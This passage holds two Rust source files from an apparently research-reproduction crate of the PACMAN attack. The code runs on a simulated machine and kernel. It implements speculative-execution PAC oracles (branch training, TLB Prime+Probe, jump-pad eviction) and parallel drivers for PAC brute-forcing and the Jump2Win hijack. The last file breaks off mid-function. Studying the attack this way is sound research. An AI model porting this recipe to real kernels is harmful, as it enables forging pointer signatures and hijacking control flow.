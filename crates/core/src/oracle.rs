//! PAC oracles (paper §8.1): crash-free classification of PAC guesses.
//!
//! A PAC oracle answers "is this 16-bit PAC the correct signature for
//! this pointer under the victim's key?" *without ever causing an
//! architectural PAC failure*. Both variants follow the §8.1 recipe:
//!
//! 1. train the gadget's conditional branch taken (64 syscalls with
//!    `cond = 1`, which also trains the BTB for the instruction variant);
//! 2. reset the TLB hierarchy (23 same-L2-set loads);
//! 3. prime the monitored dTLB set (12 same-set loads);
//! 4. trigger the gadget with the guess-signed pointer and `cond = 0` —
//!    the gadget body runs only speculatively;
//! 5. *(instruction variant)* make 4 jump-pad syscalls to evict the
//!    kernel iTLB set, migrating any speculatively fetched translation
//!    into the shared dTLB;
//! 6. probe the monitored set and count misses.
//!
//! A correct PAC leaves the target translation in the monitored set and
//! the probe cascades into ≥5 misses; an incorrect PAC leaves ≤1.

use std::collections::HashMap;

use pacman_isa::ptr::with_pac_field;
use pacman_kernel::kext::JumpPads;
use pacman_kernel::KernelError;
use pacman_uarch::Trap;

use crate::probe::PrimeProbe;
use crate::system::System;

/// Miss count at or above which a trial is classified "correct PAC"
/// (paper: correct trials show at least 5 misses ≥99.6% of the time).
pub const CORRECT_MISS_THRESHOLD: usize = 5;

/// Number of branch-training syscalls per trial (paper §8.2).
pub const TRAIN_ITERS: usize = 64;

/// Errors surfaced by oracle operation.
#[derive(Debug)]
pub enum OracleError {
    /// The attacker's own memory operations trapped (setup bug).
    AttackerFault(Trap),
    /// A syscall failed — a [`KernelError::Panic`] here means the oracle
    /// *did* crash the kernel, which the PACMAN attack must never do.
    Kernel(KernelError),
    /// The target's dTLB set collides with a page the syscall path
    /// touches on every call; Prime+Probe on it cannot distinguish
    /// anything.
    HotSetCollision {
        /// The offending set.
        set: u64,
    },
}

impl std::fmt::Display for OracleError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            OracleError::AttackerFault(t) => write!(f, "attacker-side fault: {t}"),
            OracleError::Kernel(e) => write!(f, "kernel error during oracle trial: {e}"),
            OracleError::HotSetCollision { set } => {
                write!(f, "target dTLB set {set} collides with the syscall path")
            }
        }
    }
}

impl std::error::Error for OracleError {}

impl From<Trap> for OracleError {
    fn from(t: Trap) -> Self {
        OracleError::AttackerFault(t)
    }
}

impl From<KernelError> for OracleError {
    fn from(e: KernelError) -> Self {
        OracleError::Kernel(e)
    }
}

/// The oracle's verdict for one PAC guess.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct OracleVerdict {
    /// Miss counts of the individual trials.
    pub misses: Vec<usize>,
    /// Median miss count used for classification.
    pub median_misses: usize,
    /// Miss threshold at or above which the median means "correct PAC"
    /// (channel-specific: 12-way dTLB sets vs 4-way L1D sets).
    pub threshold: usize,
}

impl OracleVerdict {
    /// Builds a verdict with the dTLB channel's threshold.
    pub fn from_misses(misses: Vec<usize>) -> Self {
        Self::with_threshold(misses, CORRECT_MISS_THRESHOLD)
    }

    /// Builds a verdict with a channel-specific threshold.
    pub fn with_threshold(mut misses: Vec<usize>, threshold: usize) -> Self {
        let mut sorted = misses.clone();
        sorted.sort_unstable();
        let median_misses = sorted[sorted.len() / 2];
        misses.shrink_to_fit();
        Self { misses, median_misses, threshold }
    }

    /// Whether the guess classifies as the correct PAC.
    pub fn is_correct(&self) -> bool {
        self.median_misses >= self.threshold
    }
}

/// Common interface of the two §8.1 oracle variants.
pub trait PacOracle {
    /// Runs one raw trial and returns the probe's miss count.
    ///
    /// # Errors
    ///
    /// See [`OracleError`].
    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError>;

    /// Number of trials per [`PacOracle::test_pac`] call (median rule).
    fn samples(&self) -> usize {
        1
    }

    /// Short name of the transmission channel, used in telemetry records
    /// (`"dtlb-data"`, `"itlb-instr"`, `"l1d-data"`).
    fn channel(&self) -> &'static str {
        "oracle"
    }

    /// Current per-trial branch-training iteration count.
    fn train_iters(&self) -> usize {
        TRAIN_ITERS
    }

    /// Overrides the per-trial branch-training iteration count.
    ///
    /// The gadget's conditional sits behind a 2-bit bimodal counter that
    /// persists across trials: one wrong-path trigger only decays it from
    /// strongly- to weakly-taken, so after a cold full training a handful
    /// of re-training syscalls restore saturation. The §8.2 warm brute
    /// sweep ([`crate::brute::BruteForcer::with_warm_sweep`]) exploits
    /// this; oracles without persistent training state ignore the call.
    fn set_train_iters(&mut self, _iters: usize) {}

    /// Tests one PAC guess for `target`, returning the verdict.
    ///
    /// # Errors
    ///
    /// See [`OracleError`].
    fn test_pac(
        &mut self,
        sys: &mut System,
        target: u64,
        pac: u16,
    ) -> Result<OracleVerdict, OracleError> {
        let mut misses = Vec::with_capacity(self.samples());
        for _ in 0..self.samples() {
            misses.push(self.trial(sys, target, pac)?);
        }
        Ok(OracleVerdict::from_misses(misses))
    }
}

/// Boxed oracles forward everything to the inner oracle, including
/// `test_pac` (the cache channel overrides it with its own threshold),
/// so channel-generic drivers can hold a `Box<dyn PacOracle>`.
impl<O: PacOracle + ?Sized> PacOracle for Box<O> {
    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        (**self).trial(sys, target, pac)
    }

    fn train_iters(&self) -> usize {
        (**self).train_iters()
    }

    fn set_train_iters(&mut self, iters: usize) {
        (**self).set_train_iters(iters);
    }

    fn samples(&self) -> usize {
        (**self).samples()
    }

    fn channel(&self) -> &'static str {
        (**self).channel()
    }

    fn test_pac(
        &mut self,
        sys: &mut System,
        target: u64,
        pac: u16,
    ) -> Result<OracleVerdict, OracleError> {
        (**self).test_pac(sys, target, pac)
    }
}

fn check_quiet(sys: &System, target: u64) -> Result<(), OracleError> {
    let set = pacman_isa::ptr::VirtualAddress::new(target).vpn() % 256;
    if sys.hot_dtlb_sets().contains(&set) {
        Err(OracleError::HotSetCollision { set })
    } else {
        Ok(())
    }
}

fn payload_for(target: u64, pac: u16) -> [u8; 24] {
    let mut payload = [0u8; 24];
    payload[16..].copy_from_slice(&with_pac_field(target, pac).to_le_bytes());
    payload
}

/// State shared by both oracle variants: per-target Prime+Probe machinery.
#[derive(Debug, Default)]
struct ProbeCache {
    by_target: HashMap<u64, PrimeProbe>,
}

impl ProbeCache {
    /// The Prime+Probe state for `target`, built on first use. Returns a
    /// borrow (not a clone): the eviction-set vectors are invariant
    /// across guesses, so trials must not re-materialise them.
    fn get<'a>(&'a mut self, sys: &mut System, target: u64) -> &'a PrimeProbe {
        self.by_target.entry(target).or_insert_with(|| PrimeProbe::for_target(sys, target))
    }
}

/// The data-gadget oracle (Figure 3(a), Figure 8(a)): the speculative
/// transmit is a load, whose dTLB fill userspace observes directly.
#[derive(Debug)]
pub struct DataPacOracle {
    probes: ProbeCache,
    samples: usize,
    /// Training iterations per trial.
    pub train_iters: usize,
}

impl DataPacOracle {
    /// Creates the oracle (1 sample per test; see
    /// [`DataPacOracle::with_samples`] for the §8.2 median-of-5 rule).
    pub fn new(_sys: &mut System) -> Result<Self, OracleError> {
        Ok(Self { probes: ProbeCache::default(), samples: 1, train_iters: TRAIN_ITERS })
    }

    /// Sets the per-test sample count (median classification).
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }
}

impl PacOracle for DataPacOracle {
    fn samples(&self) -> usize {
        self.samples
    }

    fn channel(&self) -> &'static str {
        "dtlb-data"
    }

    fn train_iters(&self) -> usize {
        self.train_iters
    }

    fn set_train_iters(&mut self, iters: usize) {
        self.train_iters = iters;
    }

    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        check_quiet(sys, target)?;
        let train_iters = self.train_iters;
        let pp = self.probes.get(sys, target);
        let sc = sys.gadget.data_gadget;
        // (1) train
        for _ in 0..train_iters {
            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
        }
        // (2) reset, (3) prime
        pp.reset(sys)?;
        pp.prime(sys)?;
        // (4) trigger speculatively
        let buf = sys.write_payload(&payload_for(target, pac));
        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
        // (5) probe
        Ok(pp.probe(sys)?)
    }
}

/// The instruction-gadget oracle (Figure 3(b), Figure 8(b)): the
/// speculative transmit is an indirect call; the kernel-iTLB footprint is
/// made dTLB-visible via jump-pad self-eviction.
#[derive(Debug)]
pub struct InstrPacOracle {
    probes: ProbeCache,
    pads: HashMap<u64, JumpPads>,
    samples: usize,
    /// Training iterations per trial.
    pub train_iters: usize,
}

impl InstrPacOracle {
    /// Creates the oracle.
    pub fn new(_sys: &mut System) -> Result<Self, OracleError> {
        Ok(Self {
            probes: ProbeCache::default(),
            pads: HashMap::new(),
            samples: 1,
            train_iters: TRAIN_ITERS,
        })
    }

    /// Sets the per-test sample count (median classification).
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }

    /// The jump pads for `target`, installed on first use. Borrowed, not
    /// cloned, for the same reason as [`ProbeCache::get`]; an associated
    /// function over the map field so the caller can hold this borrow
    /// and the probe-cache borrow simultaneously.
    fn pads_for<'a>(
        pads: &'a mut HashMap<u64, JumpPads>,
        sys: &mut System,
        target: u64,
    ) -> &'a JumpPads {
        pads.entry(target).or_insert_with(|| {
            JumpPads::install_for_target(&mut sys.kernel, &mut sys.machine, target, 4)
        })
    }
}

impl PacOracle for InstrPacOracle {
    fn samples(&self) -> usize {
        self.samples
    }

    fn channel(&self) -> &'static str {
        "itlb-instr"
    }

    fn train_iters(&self) -> usize {
        self.train_iters
    }

    fn set_train_iters(&mut self, iters: usize) {
        self.train_iters = iters;
    }

    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        check_quiet(sys, target)?;
        let train_iters = self.train_iters;
        let pp = self.probes.get(sys, target);
        let pads = Self::pads_for(&mut self.pads, sys, target);
        let sc = sys.gadget.instr_gadget;
        for _ in 0..train_iters {
            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
        }
        pp.reset(sys)?;
        pp.prime(sys)?;
        let buf = sys.write_payload(&payload_for(target, pac));
        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
        // (5) kernel-iTLB self-eviction: migrate the speculative fetch's
        // translation into the shared dTLB.
        pads.evict(&mut sys.kernel, &mut sys.machine);
        // (6) probe
        Ok(pp.probe(sys)?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn data_oracle_distinguishes_correct_from_incorrect() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();

        let good = oracle.test_pac(&mut sys, target, true_pac).unwrap();
        assert!(good.is_correct(), "true PAC rejected: {good:?}");
        for delta in [1u16, 0x10, 0x8000] {
            let bad = oracle.test_pac(&mut sys, target, true_pac ^ delta).unwrap();
            assert!(!bad.is_correct(), "wrong PAC accepted: {bad:?}");
        }
        assert_eq!(sys.kernel.crash_count(), 0, "the oracle must be crash-free");
    }

    #[test]
    fn instr_oracle_distinguishes_correct_from_incorrect() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = InstrPacOracle::new(&mut sys).unwrap();

        let good = oracle.test_pac(&mut sys, target, true_pac).unwrap();
        assert!(good.is_correct(), "true PAC rejected: {good:?}");
        let bad = oracle.test_pac(&mut sys, target, true_pac ^ 0x41).unwrap();
        assert!(!bad.is_correct(), "wrong PAC accepted: {bad:?}");
        assert_eq!(sys.kernel.crash_count(), 0);
    }

    #[test]
    fn repeated_trials_are_stable() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();
        for round in 0..10 {
            let good = oracle.trial(&mut sys, target, true_pac).unwrap();
            let bad = oracle.trial(&mut sys, target, true_pac ^ 1).unwrap();
            assert!(good >= CORRECT_MISS_THRESHOLD, "round {round}: good={good}");
            assert!(bad < CORRECT_MISS_THRESHOLD, "round {round}: bad={bad}");
        }
    }

    #[test]
    fn median_sampling_filters_outliers() {
        let v = OracleVerdict::from_misses(vec![0, 0, 12, 0, 1]);
        assert_eq!(v.median_misses, 0);
        assert!(!v.is_correct());
        let v = OracleVerdict::from_misses(vec![12, 11, 0, 12, 12]);
        assert!(v.is_correct());
    }

    #[test]
    fn hot_set_targets_are_rejected() {
        let mut sys = quiet_system();
        let hot = sys.hot_dtlb_sets()[0] as usize;
        let target = sys.alloc_target(hot);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();
        assert!(matches!(
            oracle.test_pac(&mut sys, target, 0),
            Err(OracleError::HotSetCollision { .. })
        ));
    }

    #[test]
    fn oracle_works_under_default_os_noise_with_median_of_5() {
        // §8.2 runs under web-browsing noise; median-of-5 sampling keeps
        // the verdicts clean.
        let mut sys = System::boot(SystemConfig::default());
        assert!(sys.machine.config().os_noise > 0.0);
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap().with_samples(5);
        assert!(oracle.test_pac(&mut sys, target, true_pac).unwrap().is_correct());
        assert!(!oracle.test_pac(&mut sys, target, true_pac ^ 2).unwrap().is_correct());
        assert_eq!(sys.kernel.crash_count(), 0);
    }
}
