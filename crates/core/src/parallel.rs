//! Parallel experiment drivers over the `pacman-runner` execution layer.
//!
//! Every driver here follows the same recipe:
//!
//! 1. cut the trial space into [`pacman_runner::DEFAULT_SHARDS`]
//!    contiguous shards (a pure function of the workload and the base
//!    seed — never of the worker count);
//! 2. boot one fresh [`System`] per shard whose *machine* seed is the
//!    shard seed (`base ^ shard_index`) while the *kernel* seed is
//!    untouched, so PAC keys, target addresses and ground truth are
//!    identical on every shard and only the noise/jitter streams differ;
//! 3. run the shard's trials independently;
//! 4. merge the per-shard outputs **in shard order** with
//!    order-insensitive operations: counters add, histograms fold
//!    bucket-wise ([`Registry::merge`]), trial logs concatenate and
//!    reindex.
//!
//! Consequence: for a fixed base seed the merged aggregate is identical
//! for `jobs = 1` and `jobs = N` — the determinism contract the
//! `parallel_determinism` integration tests pin.

use pacman_runner::{run_shards, shard_plan, Shard, DEFAULT_SHARDS};
use pacman_telemetry::Registry;
use pacman_uarch::Trap;

use crate::brute::{BruteForcer, BruteOutcome, BruteVerdict};
use crate::cache_probe::{quiet_target_offset, CacheDataPacOracle};
use crate::jump2win::{Jump2Win, Jump2WinError, Jump2WinReport};
use crate::oracle::{DataPacOracle, InstrPacOracle, OracleError, PacOracle};
use crate::sweep::{
    cache_tlb_series, data_tlb_series, experiment_machine, itlb_series, SweepSeries,
};
use crate::system::{System, SystemConfig};
use crate::telemetry::{recorded_test_pac, TrialLog, TrialRecord};

/// Transmission channel selector for the parallel oracle drivers.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub enum Channel {
    /// dTLB channel, data PACMAN gadget (Figure 8(a)).
    Data,
    /// iTLB channel, instruction PACMAN gadget (Figure 8(b)).
    Instr,
    /// L1 data-cache channel (§4.1 generality).
    Cache,
}

impl Channel {
    /// Builds the channel's oracle with the given per-test sample count.
    ///
    /// # Errors
    ///
    /// Propagates construction failures from the oracle.
    pub fn oracle(
        self,
        sys: &mut System,
        samples: usize,
    ) -> Result<Box<dyn PacOracle>, OracleError> {
        Ok(match self {
            Channel::Data => Box::new(DataPacOracle::new(sys)?.with_samples(samples)),
            Channel::Instr => Box::new(InstrPacOracle::new(sys)?.with_samples(samples)),
            Channel::Cache => Box::new(CacheDataPacOracle::new(sys)?.with_samples(samples)),
        })
    }

    /// The target-page offset this channel monitors (the cache channel
    /// needs a quiet L1D set inside the page).
    fn target_offset(self) -> u64 {
        match self {
            Channel::Cache => quiet_target_offset(),
            _ => 0,
        }
    }
}

/// Boots one shard's [`System`]: the machine seed becomes the shard seed
/// (decorrelating noise streams), the kernel seed stays the caller's (so
/// keys, layout and ground truth match across shards).
pub fn shard_system(base: &SystemConfig, shard_seed: u64, record: bool) -> System {
    let mut cfg = base.clone();
    cfg.machine.seed = shard_seed;
    let mut sys = System::boot(cfg);
    if record {
        sys.telemetry.set_enabled(true);
    }
    sys
}

/// Captures a shard's full registry (attack-level series + the machine's
/// microarchitectural totals) for merging into the aggregate.
fn shard_registry(sys: &System) -> Registry {
    let mut reg = sys.telemetry.clone();
    reg.set_enabled(true);
    sys.machine.export_telemetry(&mut reg);
    reg
}

/// Lifts per-shard fallible results into one result, reporting the
/// error from the lowest-indexed failing shard (deterministic).
fn collect_shards<T>(results: Vec<Result<T, OracleError>>) -> Result<Vec<T>, OracleError> {
    results.into_iter().collect()
}

/// Concatenates shard trial logs in shard order and reindexes them into
/// one global sequence.
fn merge_logs(logs: impl IntoIterator<Item = Vec<TrialRecord>>) -> Vec<TrialRecord> {
    let mut out: Vec<TrialRecord> = logs.into_iter().flatten().collect();
    for (i, r) in out.iter_mut().enumerate() {
        r.index = i as u64;
    }
    out
}

/// Number of miss-count buckets in the Figure 8 distributions (0..=12,
/// last bucket saturating).
pub const MISS_BUCKETS: usize = 13;

/// Merged result of a parallel oracle-distribution run.
#[derive(Clone, Debug)]
pub struct OracleDistribution {
    /// Trial pairs executed (one correct + one wrong guess each).
    pub trials: u64,
    /// Correct-guess tests the oracle classified as correct.
    pub correct_detected: u64,
    /// Wrong-guess tests the oracle classified as incorrect.
    pub incorrect_clean: u64,
    /// Miss-count histogram of the correct-guess tests
    /// ([`MISS_BUCKETS`] buckets, last saturating).
    pub correct_misses: Vec<u64>,
    /// Miss-count histogram of the wrong-guess tests.
    pub incorrect_misses: Vec<u64>,
    /// Kernel crashes across all shards (must be zero).
    pub crashes: u64,
    /// Concatenated, reindexed per-trial records (empty unless recording).
    pub records: Vec<TrialRecord>,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
    /// The (shard-invariant) target address and its true PAC.
    pub target: u64,
    /// Ground-truth PAC of [`OracleDistribution::target`].
    pub true_pac: u16,
}

struct OracleShardOut {
    correct_detected: u64,
    incorrect_clean: u64,
    correct_misses: [u64; MISS_BUCKETS],
    incorrect_misses: [u64; MISS_BUCKETS],
    crashes: u64,
    records: Vec<TrialRecord>,
    telemetry: Registry,
    target: u64,
    true_pac: u16,
}

/// Runs `trials` correct/wrong oracle test pairs sharded across `jobs`
/// workers (Figure 8 and the CLI `oracle` command).
///
/// `wrong_for(i, true_pac)` derives the wrong guess for global trial
/// index `i`, so the guess sequence is independent of sharding. With
/// `record` set, per-trial records and `oracle.*` telemetry are kept.
///
/// # Errors
///
/// Propagates the first [`OracleError`] in shard order.
pub fn oracle_distribution<F>(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    trials: usize,
    jobs: usize,
    record: bool,
    wrong_for: F,
) -> Result<OracleDistribution, OracleError>
where
    F: Fn(usize, u16) -> u16 + Sync,
{
    let plan = shard_plan(trials, DEFAULT_SHARDS, base.machine.seed);
    let shard_outs =
        run_shards(&plan, jobs, |shard: &Shard| -> Result<OracleShardOut, OracleError> {
            let mut sys = shard_system(base, shard.seed, record);
            let set = sys.pick_quiet_dtlb_set();
            let target = sys.alloc_target(set) + channel.target_offset();
            let true_pac = sys.true_pac(target);
            let mut oracle = channel.oracle(&mut sys, samples)?;
            let mut log = if record { TrialLog::new() } else { TrialLog::disabled() };
            let mut out = OracleShardOut {
                correct_detected: 0,
                incorrect_clean: 0,
                correct_misses: [0; MISS_BUCKETS],
                incorrect_misses: [0; MISS_BUCKETS],
                crashes: 0,
                records: Vec::new(),
                telemetry: Registry::disabled(),
                target,
                true_pac,
            };
            for i in shard.range() {
                let v = recorded_test_pac(
                    oracle.as_mut(),
                    &mut sys,
                    &mut log,
                    target,
                    true_pac,
                    Some(true_pac),
                )?;
                if v.is_correct() {
                    out.correct_detected += 1;
                }
                out.correct_misses[v.median_misses.min(MISS_BUCKETS - 1)] += 1;
                let wrong = wrong_for(i, true_pac);
                let v = recorded_test_pac(
                    oracle.as_mut(),
                    &mut sys,
                    &mut log,
                    target,
                    wrong,
                    Some(true_pac),
                )?;
                if !v.is_correct() {
                    out.incorrect_clean += 1;
                }
                out.incorrect_misses[v.median_misses.min(MISS_BUCKETS - 1)] += 1;
            }
            out.crashes = sys.kernel.crash_count();
            out.records = log.take();
            if record {
                out.telemetry = shard_registry(&sys);
            }
            Ok(out)
        });
    let shard_outs = collect_shards(shard_outs)?;

    let mut merged = OracleDistribution {
        trials: trials as u64,
        correct_detected: 0,
        incorrect_clean: 0,
        correct_misses: vec![0; MISS_BUCKETS],
        incorrect_misses: vec![0; MISS_BUCKETS],
        crashes: 0,
        records: Vec::new(),
        telemetry: if record { Registry::new() } else { Registry::disabled() },
        target: 0,
        true_pac: 0,
    };
    let mut logs = Vec::with_capacity(shard_outs.len());
    for (si, s) in shard_outs.into_iter().enumerate() {
        if si == 0 {
            merged.target = s.target;
            merged.true_pac = s.true_pac;
        }
        merged.correct_detected += s.correct_detected;
        merged.incorrect_clean += s.incorrect_clean;
        for b in 0..MISS_BUCKETS {
            merged.correct_misses[b] += s.correct_misses[b];
            merged.incorrect_misses[b] += s.incorrect_misses[b];
        }
        merged.crashes += s.crashes;
        merged.telemetry.merge(&s.telemetry);
        logs.push(s.records);
    }
    merged.records = merge_logs(logs);
    Ok(merged)
}

/// Merged result of a parallel brute-force sweep.
#[derive(Clone, Debug)]
pub struct ParallelBrute {
    /// Aggregate outcome: costs summed over every shard; `found` is the
    /// hit from the lowest candidate range (shards never early-exit each
    /// other, so the aggregate is jobs-independent).
    pub outcome: BruteOutcome,
    /// The (shard-invariant) target address.
    pub target: u64,
    /// Ground-truth PAC of the target.
    pub true_pac: u16,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
}

/// Shards `candidates` contiguously and sweeps every shard to completion
/// (§8.2 speed protocol and the CLI `brute` command).
///
/// Unlike the serial [`BruteForcer::brute`], a hit in one shard does not
/// stop the others — total work is therefore a pure function of the
/// candidate list, which is what makes the jobs=1 and jobs=N aggregates
/// identical (and what a real parallel attacker pays anyway, since
/// cross-worker cancellation is racy).
///
/// # Errors
///
/// Propagates the first [`OracleError`] in shard order.
pub fn parallel_brute(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    candidates: &[u16],
    jobs: usize,
    record: bool,
) -> Result<ParallelBrute, OracleError> {
    struct ShardOut {
        outcome: BruteOutcome,
        target: u64,
        true_pac: u16,
        telemetry: Registry,
    }
    let plan = shard_plan(candidates.len(), DEFAULT_SHARDS, base.machine.seed);
    let shard_outs = run_shards(&plan, jobs, |shard: &Shard| -> Result<ShardOut, OracleError> {
        let mut sys = shard_system(base, shard.seed, record);
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set) + channel.target_offset();
        let true_pac = sys.true_pac(target);
        let oracle = channel.oracle(&mut sys, samples)?;
        let mut bf = BruteForcer::new(oracle);
        let outcome = bf.brute(&mut sys, target, candidates[shard.range()].iter().copied())?;
        let telemetry = if record { shard_registry(&sys) } else { Registry::disabled() };
        Ok(ShardOut { outcome, target, true_pac, telemetry })
    });
    let shard_outs = collect_shards(shard_outs)?;

    let mut merged = ParallelBrute {
        outcome: BruteOutcome {
            found: None,
            guesses_tested: 0,
            syscalls: 0,
            cycles: 0,
            crashes: 0,
        },
        target: 0,
        true_pac: 0,
        telemetry: if record { Registry::new() } else { Registry::disabled() },
    };
    for (si, s) in shard_outs.into_iter().enumerate() {
        if si == 0 {
            merged.target = s.target;
            merged.true_pac = s.true_pac;
        }
        if merged.outcome.found.is_none() {
            merged.outcome.found = s.outcome.found;
        }
        merged.outcome.guesses_tested += s.outcome.guesses_tested;
        merged.outcome.syscalls += s.outcome.syscalls;
        merged.outcome.cycles += s.outcome.cycles;
        merged.outcome.crashes += s.outcome.crashes;
        merged.telemetry.merge(&s.telemetry);
    }
    Ok(merged)
}

/// Merged result of a parallel accuracy evaluation (§8.2).
#[derive(Clone, Debug)]
pub struct AccuracyOutcome {
    /// Brute-force runs executed.
    pub runs: u64,
    /// Runs that found the true PAC.
    pub true_positives: u64,
    /// Runs that reported a wrong PAC (intolerable).
    pub false_positives: u64,
    /// Runs that found nothing (tolerable, retry).
    pub false_negatives: u64,
    /// Kernel crashes across all shards.
    pub crashes: u64,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
}

/// Runs `runs` independent brute-force windows sharded across `jobs`
/// workers and tallies TP/FP/FN (the §8.2 accuracy protocol).
///
/// `window_for(run, true_pac)` builds run `run`'s candidate window, so
/// the windows are independent of sharding.
///
/// # Errors
///
/// Propagates the first [`OracleError`] in shard order.
pub fn parallel_accuracy<F>(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    runs: usize,
    jobs: usize,
    window_for: F,
) -> Result<AccuracyOutcome, OracleError>
where
    F: Fn(usize, u16) -> Vec<u16> + Sync,
{
    struct ShardOut {
        tp: u64,
        fp: u64,
        fneg: u64,
        crashes: u64,
        telemetry: Registry,
    }
    let plan = shard_plan(runs, DEFAULT_SHARDS, base.machine.seed);
    let shard_outs = run_shards(&plan, jobs, |shard: &Shard| -> Result<ShardOut, OracleError> {
        let mut sys = shard_system(base, shard.seed, true);
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set) + channel.target_offset();
        let true_pac = sys.true_pac(target);
        let oracle = channel.oracle(&mut sys, samples)?;
        let mut bf = BruteForcer::new(oracle);
        let (mut tp, mut fp, mut fneg) = (0u64, 0u64, 0u64);
        for run in shard.range() {
            let window = window_for(run, true_pac);
            let outcome = bf.brute(&mut sys, target, window)?;
            match BruteForcer::<Box<dyn PacOracle>>::classify(&outcome, true_pac) {
                BruteVerdict::TruePositive => tp += 1,
                BruteVerdict::FalsePositive => fp += 1,
                BruteVerdict::FalseNegative => fneg += 1,
            }
        }
        let crashes = sys.kernel.crash_count();
        let telemetry = shard_registry(&sys);
        Ok(ShardOut { tp, fp, fneg, crashes, telemetry })
    });
    let shard_outs = collect_shards(shard_outs)?;

    let mut merged = AccuracyOutcome {
        runs: runs as u64,
        true_positives: 0,
        false_positives: 0,
        false_negatives: 0,
        crashes: 0,
        telemetry: Registry::new(),
    };
    for s in shard_outs {
        merged.true_positives += s.tp;
        merged.false_positives += s.fp;
        merged.false_negatives += s.fneg;
        merged.crashes += s.crashes;
        merged.telemetry.merge(&s.telemetry);
    }
    Ok(merged)
}

/// Which §7 sweep to run in parallel.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub enum SweepKind {
    /// Figure 5(a): data loads, cache-conflict-avoiding stride formula.
    DataTlb,
    /// Figure 5(b): data loads, raw strides (cache/TLB interaction).
    CacheTlb,
    /// Figure 5(c): instruction fetches, reload measured as data.
    Itlb,
}

/// Runs one §7 sweep with one fresh experiment machine **per stride**,
/// sharded across `jobs` workers. Series come back in stride order with
/// the same per-stride VA layout as the serial sweeps (the stride index
/// is passed through), and the experiment machines are noise-free with
/// PMC0 timing, so the medians are exactly reproducible at any job
/// count. Also returns the merged machine telemetry.
///
/// # Errors
///
/// Propagates the first [`Trap`] in stride order.
pub fn parallel_sweep(
    kind: SweepKind,
    strides: &[u64],
    jobs: usize,
) -> Result<(Vec<SweepSeries>, Registry), Trap> {
    // One work unit per stride: stride counts are tiny (3-4), and each
    // stride is the natural isolation boundary (disjoint VA region).
    let plan = shard_plan(strides.len(), strides.len(), 0);
    let outs = run_shards(&plan, jobs, |shard: &Shard| -> Result<(SweepSeries, Registry), Trap> {
        let mut m = experiment_machine();
        let si = shard.index;
        let series = match kind {
            SweepKind::DataTlb => data_tlb_series(&mut m, si, strides[si])?,
            SweepKind::CacheTlb => cache_tlb_series(&mut m, si, strides[si])?,
            SweepKind::Itlb => itlb_series(&mut m, si, strides[si])?,
        };
        let mut reg = Registry::new();
        m.export_telemetry(&mut reg);
        Ok((series, reg))
    });
    let mut series = Vec::with_capacity(strides.len());
    let mut telemetry = Registry::new();
    for out in outs {
        let (s, reg) = out?;
        series.push(s);
        telemetry.merge(&reg);
    }
    Ok((series, telemetry))
}

/// Runs the §8.3 Jump2Win attack with its two independent brute-force
/// phases (IA-key `win()` PAC, DA-key vtable PAC) executing in parallel
/// on separate shard systems, then plants and dispatches on a fresh
/// system. Costs are summed over the phases plus the final dispatch.
///
/// # Errors
///
/// See [`Jump2WinError`]; phase errors surface in phase order.
pub fn parallel_jump2win(
    base: &SystemConfig,
    driver: &Jump2Win,
    jobs: usize,
    record: bool,
) -> Result<(Jump2WinReport, Registry), Jump2WinError> {
    use pacman_isa::PacKey;

    struct PhaseOut {
        pac: u16,
        guesses: u64,
        syscalls: u64,
        cycles: u64,
        crashes: u64,
        telemetry: Registry,
    }
    // Two work units: the two brute-force phases.
    let plan = shard_plan(2, 2, base.machine.seed);
    let outs = run_shards(&plan, jobs, |shard: &Shard| -> Result<PhaseOut, Jump2WinError> {
        let mut sys = shard_system(base, shard.seed, record);
        let phase = shard.index;
        let (sc, target, key) = if phase == 0 {
            (sys.cpp.gadget_ia, sys.cpp.win_fn, PacKey::Ia)
        } else {
            (sys.cpp.gadget_da, sys.cpp.obj1, PacKey::Da)
        };
        let syscalls0 = sys.machine.stats.syscalls;
        let cycles0 = sys.machine.cycles;
        let crashes0 = sys.kernel.crash_count();
        let mut guesses = 0u64;
        let pac = driver.brute_phase(&mut sys, sc, target, key, phase, &mut guesses)?;
